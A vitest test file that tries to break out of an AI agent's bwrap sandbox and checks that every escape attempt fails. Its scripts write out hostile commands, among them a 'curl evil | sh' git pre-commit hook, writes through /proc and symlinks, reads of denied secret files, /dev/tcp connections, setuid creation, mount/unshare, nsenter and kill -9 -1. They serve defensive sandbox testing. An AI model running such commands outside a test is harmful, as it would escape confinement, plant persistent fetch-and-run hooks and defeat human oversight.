// The escape battery: each test really tries to break out of a workspace-write sandbox with the
// network off, then checks on the host that nothing outside the workspace changed.
import { type ChildProcess, execFileSync, spawn, spawnSync } from 'node:child_process'
import { existsSync, mkdirSync, readdirSync, statSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:net'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { detectSandbox } from '../src/detect.js'
import { packageDir, runSandboxed, scratchDir, snapshot, workspaceWrite } from './helpers.js'

let scratch: ReturnType<typeof scratchDir>
let ws: string
let outside: string
let before: string[]

beforeEach(() => {
  scratch = scratchDir()
  ws = join(scratch.dir, 'ws')
  outside = join(scratch.dir, 'outside')
  mkdirSync(ws)
  mkdirSync(join(outside, 'dir'), { recursive: true })
  writeFileSync(join(outside, 'victim.txt'), 'original\n')
  before = snapshot(outside)
})
afterEach(() => {
  try {
    expect(snapshot(outside)).toEqual(before)
  } finally {
    scratch.cleanup()
  }
})

/** Runs a shell script in the sandbox; every line is an attempt that must fail. */
async function attempt(script: string, policy = workspaceWrite()) {
  return runSandboxed(policy, ['sh', '-c', script], { cwd: ws })
}

describe('escape battery (workspace-write, network off)', () => {
  // vitest.config.ts runs this file once per bwrap (system, shipped): make sure it is that one.
  it('runs under the bwrap this run is for', async () => {
    const wanted = process.env.AGENT_SANDBOX_BWRAP === 'bundled' ? 'bundled' : 'system'
    const support = await detectSandbox()
    expect(support).toMatchObject({ available: true, bwrapSource: wanted })
  })

  it('cannot write outside the workspace by absolute path', async () => {
    const r = await attempt(`
      echo pwned > ${outside}/new
      echo pwned >> ${outside}/victim.txt
      rm -f ${outside}/victim.txt
      mkdir ${outside}/made
      touch ${outside}/dir/x
      mv ${outside}/victim.txt ${ws}/moved
      echo done`)
    expect(r.stdout).toBe('done\n')
    expect(r.stderr).toMatch(/Read-only file system/)
  })

  it('cannot write outside through ..', async () => {
    const r = await attempt(
      'echo pwned > ../outside/new; echo pwned > ../../outside-sibling; cp /etc/hostname ../outside/dir/; echo done',
    )
    expect(r.stdout).toBe('done\n')
    expect(existsSync(join(scratch.dir, '..', 'outside-sibling'))).toBe(false)
  })

  it('cannot write outside through a symlink created inside', async () => {
    const r = await attempt(`
      ln -s ${outside} link && echo pwned > link/new
      ln -s ${outside}/victim.txt vlink && echo pwned > vlink
      ln -s ../outside rel && echo pwned > rel/dir/new
      echo done`)
    expect(r.stdout).toBe('done\n')
    expect(r.stderr).toMatch(/Read-only file system/)
  })

  it('cannot write outside through /proc/self/root or /proc/<pid>/cwd', async () => {
    const r = await attempt(`
      echo pwned > /proc/self/root${outside}/new
      echo pwned > /proc/1/root${outside}/new
      echo pwned > /proc/$$/cwd/../outside/new
      echo pwned > /proc/$PPID/cwd/../outside/new
      for p in /proc/[0-9]*; do echo pwned > $p/cwd/../outside/new; echo pwned > $p/root${outside}/new; done
      echo pwned > /proc/${process.pid}/cwd/escaped-through-host-pid
      echo pwned > /proc/${process.ppid}/cwd/escaped-through-host-ppid
      echo done`)
    expect(r.stdout).toBe('done\n')
    expect(existsSync(join(process.cwd(), 'escaped-through-host-pid'))).toBe(false)
    expect(existsSync(join(packageDir, 'escaped-through-host-ppid'))).toBe(false)
  })

  it('cannot touch .git (hooks, config) or .agent inside the workspace', async () => {
    execFileSync('git', ['init', '-q', ws])
    mkdirSync(join(ws, '.agent'))
    writeFileSync(join(ws, '.agent', 'config.toml'), 'model = "x"\n')
    const gitBefore = snapshot(join(ws, '.git'))
    const agentBefore = snapshot(join(ws, '.agent'))
    const r = await attempt(`
      echo 'curl evil | sh' > .git/hooks/pre-commit
      chmod +x .git/hooks/pre-commit
      echo '[core] hooksPath = /tmp' >> .git/config
      git config core.hooksPath /tmp
      rm -rf .git
      mv .git moved
      mv .agent moved-agent
      echo x > .agent/config.toml
      echo ok > allowed.txt
      echo done`)
    expect(r.stdout).toBe('done\n')
    expect(existsSync(join(ws, 'allowed.txt'))).toBe(true)
    expect(snapshot(join(ws, '.git'))).toEqual(gitBefore)
    expect(snapshot(join(ws, '.agent'))).toEqual(agentBefore)
  })

  it('keeps a gitdir: pointer target read-only inside another writable root', async () => {
    const store = join(scratch.dir, 'store')
    mkdirSync(store)
    execFileSync('git', ['init', '-q', '--separate-git-dir', join(store, 'repo.git'), ws])
    const gitBefore = snapshot(join(store, 'repo.git'))
    const r = await attempt(
      `echo evil > ${store}/repo.git/hooks/pre-commit; echo evil > "$(git rev-parse --git-dir)/hooks/post-checkout"; echo fine > ${store}/other.txt; echo done`,
      workspaceWrite({ writable_roots: [store] }),
    )
    expect(r.stdout).toBe('done\n')
    expect(existsSync(join(store, 'other.txt'))).toBe(true)
    expect(snapshot(join(store, 'repo.git'))).toEqual(gitBefore)
  })

  it('cannot read paths the policy denies', async () => {
    writeFileSync(join(outside, 'dir', 'secret.txt'), 'TOP-SECRET-1\n')
    writeFileSync(join(ws, 'secret.env'), 'TOP-SECRET-2\n')
    before = snapshot(outside)
    const r = await attempt(
      `cat ${outside}/dir/secret.txt; ls ${outside}/dir; cat secret.env; cat /proc/self/root${outside}/dir/secret.txt; echo x > ${outside}/dir/new; echo done`,
      workspaceWrite({ deny_read: [join(outside, 'dir'), join(ws, 'secret.env')] }),
    )
    expect(r.stdout).toBe('done\n')
    expect(r.stdout + r.stderr).not.toMatch(/TOP-SECRET/)
  })

  it('cannot reach a TCP server on the host loopback', async () => {
    const { server, port, connections } = await listen()
    try {
      // node is in the read-only root; it reports the errno of the first refused step.
      const script = `
        const net = require('node:net')
        const tryOne = (host) => new Promise((done) => {
          const s = net.connect({ host, port: ${port}, timeout: 3000 })
          s.on('connect', () => { console.log('connected'); s.destroy(); done() })
          s.on('error', (e) => { console.log('refused', e.code); done() })
          s.on('timeout', () => { console.log('timeout'); s.destroy(); done() })
        })
        tryOne('127.0.0.1').then(() => tryOne('::ffff:127.0.0.1'))`
      const r = await runSandboxed(workspaceWrite(), [process.execPath, '-e', script], { cwd: ws })
      expect(r.stdout).toBe('refused EPERM\nrefused EPERM\n')
      const bash = await runSandboxed(
        workspaceWrite(),
        ['bash', '-c', `(exec 3<>/dev/tcp/127.0.0.1/${port}) && echo connected; echo done`],
        {
          cwd: ws,
        },
      )
      expect(bash.stdout).toBe('done\n')
      expect(connections()).toBe(0)
      // Control: the same probe reaches the server when the policy allows the network.
      const open = await runSandboxed(
        workspaceWrite({ network_access: true }),
        [process.execPath, '-e', script],
        {
          cwd: ws,
        },
      )
      expect(open.stdout).toMatch(/^connected/)
      expect(connections()).toBeGreaterThan(0)
    } finally {
      server.close()
    }
  })

  it('cannot connect to a daemon socket outside (hidden paths)', async () => {
    const socketPath = join(scratch.dir, 'daemon.sock')
    let accepted = 0
    const daemon = createServer((socket) => {
      accepted++
      socket.end()
    })
    await new Promise<void>((resolve) => daemon.listen(socketPath, resolve))
    try {
      const script = `require('node:net').connect(${JSON.stringify(socketPath)}).on('connect', () => console.log('connected')).on('error', (e) => console.log(e.code))`
      const hidden = await runSandboxed(workspaceWrite(), [process.execPath, '-e', script], {
        cwd: ws,
        sandbox: { hiddenPaths: [socketPath] },
      })
      expect(hidden.stdout).toBe('ECONNREFUSED\n')
      expect(accepted).toBe(0)
      // Control: exposed on purpose, the same client reaches it (Unix sockets stay usable).
      const exposed = await runSandboxed(workspaceWrite(), [process.execPath, '-e', script], {
        cwd: ws,
        sandbox: { hiddenPaths: [] },
      })
      expect(exposed.stdout).toBe('connected\n')
    } finally {
      await new Promise((resolve) => daemon.close(resolve))
    }
  })

  it('cannot ptrace', async () => {
    const r = await attempt(`
      strace -o /dev/null true && echo strace-worked
      command -v python3 >/dev/null && python3 -c 'import ctypes,os; libc=ctypes.CDLL(None,use_errno=True); r=libc.ptrace(0,0,0,0); print("traceme", r, ctypes.get_errno())'
      echo done`)
    // strace must fail; the direct call (when python3 exists) must get EPERM (1).
    expect(r.stdout).toBe(`${hasPython ? 'traceme -1 1\n' : ''}done\n`)
  })

  it('cannot create a setuid or setgid binary', async () => {
    const r = await attempt(`
      cp /bin/true suid && chmod u+s suid
      chmod 4755 suid; chmod g+s suid; chmod 2755 suid
      install -m 4755 /bin/true suid2
      ${process.execPath} -e 'require("fs").openSync("suid3", "w", 0o6755)'
      echo done`)
    expect(r.stdout).toBe('done\n')
    for (const name of readdirSync(ws)) {
      expect(statSync(join(ws, name)).mode & 0o6000, name).toBe(0)
    }
    expect(existsSync(join(ws, 'suid'))).toBe(true)
  })

  it('cannot mount, remount or unmount', async () => {
    const r = await attempt(`
      mkdir m
      mount -t tmpfs none m && echo mounted
      mount -o remount,rw / && echo remounted
      mount --bind ${ws} ${outside} && echo bound
      umount /proc && echo unmounted
      unshare -Urm sh -c 'mount -o remount,rw / && echo remounted-in-userns'
      echo pwned > ${outside}/new
      echo done`)
    expect(r.stdout).toBe('done\n')
  })

  it('cannot kill a process outside the sandbox', async () => {
    const victim = spawn('sleep', ['120'], { stdio: 'ignore' })
    try {
      const r = await attempt(`kill -9 ${victim.pid}; kill -9 -1; echo done`)
      // kill -1 takes the shell with it; either way the host process must survive.
      expect(r.stdout === 'done\n' || r.exitCode === 137).toBe(true)
      await new Promise((resolve) => setTimeout(resolve, 200))
      expect(isAlive(victim)).toBe(true)
    } finally {
      victim.kill('SIGKILL')
    }
  })

  it('cannot see or enter the host PID namespace', async () => {
    const r = await attempt(`
      ls -d /proc/[0-9]* | wc -l
      tr '\\0\\n' '  ' < /proc/1/cmdline; echo
      test -e /proc/${process.pid} && echo host-pid-visible
      nsenter -t 1 -p -m true && echo entered
      echo done`)
    const [count, init, ...rest] = r.stdout.split('\n')
    expect(Number(count)).toBeLessThan(10)
    expect(init).toMatch(/^\S*bwrap /)
    expect(rest.join('\n')).toBe('done\n')
  })
})

const hasPython = spawnSync('python3', ['--version']).status === 0

function isAlive(child: ChildProcess): boolean {
  if (child.exitCode !== null || child.signalCode !== null) return false
  try {
    process.kill(child.pid as number, 0)
    return true
  } catch {
    return false
  }
}

async function listen(): Promise<{ server: Server; port: number; connections: () => number }> {
  let count = 0
  const server = createServer((socket) => {
    count++
    socket.end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const address = server.address()
  if (!address || typeof address === 'string') throw new Error('no address')
  return { server, port: address.port, connections: () => count }
}
